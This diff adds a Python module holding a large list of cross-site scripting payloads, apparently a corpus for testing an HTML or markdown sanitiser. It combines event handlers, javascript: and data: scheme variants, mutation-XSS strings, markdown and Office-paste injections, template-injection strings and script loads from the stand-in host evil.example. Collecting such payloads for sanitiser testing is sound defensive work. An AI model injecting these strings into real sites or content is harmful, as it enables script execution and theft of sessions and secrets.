@@ -1,0 +1,97 @@
+"""Strings of known kinds that made pages run somebody else's code: after the filter-evasion sheet of OWASP, the
+payloads of the HTML5 security cheat sheet, and what mutated in sanitisers (mXSS). `alert(1)` stands for the harm.
+"""
+
+from itertools import product
+from typing import Final
+
+HANDLERS: Final = (
+    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "onanimationend",
+    "ontransitionend", "ontoggle", "onbeforetoggle", "onpointerenter", "onpointerrawupdate", "onwheel", "onscroll",
+    "onscrollend", "oncopy", "oncut", "onpaste", "ondrag", "ondrop", "oninput", "onkeydown", "oncontextmenu",
+    "onpageshow", "onhashchange", "onmessage", "onbegin", "onend", "onrepeat", "onauxclick", "oncanplay",
+)  # fmt: skip
+HOLDERS: Final = (
+    "<img src=x {0}=alert(1)>", "<p {0}='alert(1)' tabindex=1>x</p>", "<svg/{0}=alert(1)>",
+    '<a href=# {0}="alert(1)">x</a>',
+)  # fmt: skip
+SCHEMES: Final = (
+    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
+    "java\rscript:alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "javascript&colon;alert(1)",
+    "javascript&#58;alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "jav&#x09;ascript:alert(1)",
+    "jav&NewLine;ascript:alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)",
+    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "data:image/svg+xml,<svg onload=alert(1)>", "javascript://example.org/%0aalert(1)", "feed:javascript:alert(1)",
+    "view-source:javascript:alert(1)", "https://www.google.com/url?q=javascript:alert(1)",
+    "https://www.google.com/url?q=data:text/html,x",
+    "https://eur01.safelinks.protection.outlook.com/?url=javascript%3Aalert(1)", "//javascript:alert(1)",
+)  # fmt: skip
+LINKS: Final = ('<a href="{0}">x</a>', "[x]({0})", "[x](<{0}>)", "<{0}>")
+OTHERS: Final = (
+    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script>alert(1)",
+    "</script><script>alert(1)</script>", "<script\x00>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
+    "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<script type=module>import('//evil.example')</script>", "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<frameset onload=alert(1)>",
+    "<object data=javascript:alert(1)></object>", "<embed src=//evil.example/x.swf>", "<applet code=x></applet>",
+    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<meta http-equiv=Set-Cookie content='a=b'>", "<link rel=stylesheet href=//evil.example/x.css>",
+    "<link rel=import href=data:text/html,x>", "<style>@import '//evil.example/x.css';</style>",
+    "<style>*{background:url(javascript:alert(1))}</style>", "<p style='background:url(javascript:alert(1))'>x</p>",
+    "<p style='width:expression(alert(1))'>x</p>", "<p style='-moz-binding:url(//evil.example)'>x</p>",
+    "<p style='position:fixed;inset:0'>x</p>", "<form action=javascript:alert(1)><button>x</button></form>",
+    "<form><button formaction=javascript:alert(1)>x</button></form>", "<input type=image src=x onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
+    "<isindex type=image src=1 onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
+    "<marquee onstart=alert(1)>x</marquee>", "<video src=x onerror=alert(1)></video>",
+    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>",
+    "<body background=javascript:alert(1)>", "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
+    "<bgsound src=javascript:alert(1)>", "<br size=\"&{alert(1)}\">", "<img dynsrc=javascript:alert(1)>",
+    "<img lowsrc=javascript:alert(1)>", "<img src=javascript:alert(1)>", "<img src=`javascript:alert(1)`>",
+    "<img \"\"\"><script>alert(1)</script>\">", "<img src=x:alert(alt) onerror=eval(src) alt=1>",
+    "<img srcset='x 1x' onerror=alert(1)>", "<picture><source srcset=x><img onerror=alert(1) src=x></picture>",
+    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><set attributeName=href to=javascript:alert(1)>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
+    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><a xlink:href=javascript:alert(1)>x</a></math>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "<math href=javascript:alert(1)>x</math>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<template><script>alert(1)</script></template>", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
+    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<!--[if IE]><script>alert(1)</script><![endif]-->",
+    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=1.0?><script>alert(1)</script>",
+    "<?import namespace=t implementation=//evil.example>", "<x onclick=alert(1)>x</x>",
+    "<custom-tag onpointerover=alert(1)>x</custom-tag>", "<a ping=//evil.example href=https://example.org>x</a>",
+    "<a href=https://example.org target=_blank onclick=alert(1)>x</a>",
+    "<p id=location>x</p><a id=cookie name=cookie>x</a>", "<img name=getElementById>",
+    "<a href=x download=x.exe>x</a>", "<a style=x:y href='javascript:alert(1)'>x</a>", "![x](javascript:alert(1))",
+    "![x](data:text/html,x)", "![x](https://example.org/a.png\" onerror=\"alert(1))",
+    "[x](https://example.org \"onmouseover=alert(1)\")", "[x]: javascript:alert(1)\n\n[x]",
+    "[a](https://example.org/\"onmouseover=alert(1))", "`<script>alert(1)</script>`",
+    "```\n</code></pre><script>alert(1)</script>\n```", "<div\nonclick=alert(1)>x</div>",
+    "<div/onclick=alert(1)>x</div>", "<p\x0conclick=alert(1)>x</p>", "'\"><script>alert(1)</script>",
+    "\"><img src=x onerror=alert(1)>", "';alert(1)//", "{{constructor.constructor('alert(1)')()}}",
+    "{% debug %}{{ settings.SECRET_KEY }}", "<a href=\"\\u006aavascript:alert(1)\">x</a>",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<scr\u0130pt>alert(1)</script>", "\u202e<script>alert(1)</script>",
+    "<sup><script>alert(1)</script></sup>", "^<script>alert(1)</script>^", "~<img src=x onerror=alert(1)>~",
+    "[^x]\n\n[^x]: <script>alert(1)</script>", "[@key<script>alert(1)</script>]",
+    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
+    "## <script>alert(1)</script>", "<span data-figure=\"x\"><script>alert(1)</script></span>",
+    "<span data-figure='drawing' onclick=alert(1)>x</span>",
+    "<p class=MsoNormal><![if !supportLists]><script>alert(1)</script><![endif]>x</p>",
+    "<o:p><script>alert(1)</script></o:p>", "<v:vmlframe src=javascript:alert(1)></v:vmlframe>",
+    "<xml id=i><x><c><![CDATA[<img src=javascript:alert(1)>]]></c></x></xml>",
+    "<a style='mso-footnote-id:ftn1' href='javascript:alert(1)#_ftn1' name='_ftnref1'>[1]</a>",
+    "<b id='docs-internal-guid-1' onclick=alert(1)>x</b>", "<td onclick=alert(1)>x",
+    "<ol start='1\" onclick=alert(1)'><li>x</ol>", "<li value='1. <script>alert(1)</script>'>x</li>",
+    "<fn class='x](javascript:alert(1))'>x</fn>",
+)  # fmt: skip
+ATTACKS: Final = tuple(dict.fromkeys([
+    *(holder.format(handler) for holder, handler in product(HOLDERS, HANDLERS)),
+    *(link.format(scheme) for link, scheme in product(LINKS, SCHEMES)),
+    *OTHERS,
+]))  # fmt: skip
